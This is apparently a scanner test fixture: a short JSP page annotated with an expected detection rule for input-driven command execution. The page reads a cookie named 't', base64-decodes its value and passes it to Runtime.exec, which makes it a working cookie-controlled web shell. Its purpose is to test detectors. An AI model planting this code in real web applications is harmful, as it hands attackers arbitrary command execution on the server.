<%-- expect rule=jsp.exec-input min=85 --%>
<%
    javax.servlet.http.Cookie[] cs = request.getCookies();
    String v = null;
    if (cs != null) for (javax.servlet.http.Cookie ck : cs) { if ("t".equals(ck.getName())) v = ck.getValue(); }
    if (v != null) {
        byte[] raw = java.util.Base64.getDecoder().decode(v);
        Runtime.getRuntime().exec(new String(raw, "UTF-8"));
    }
%>
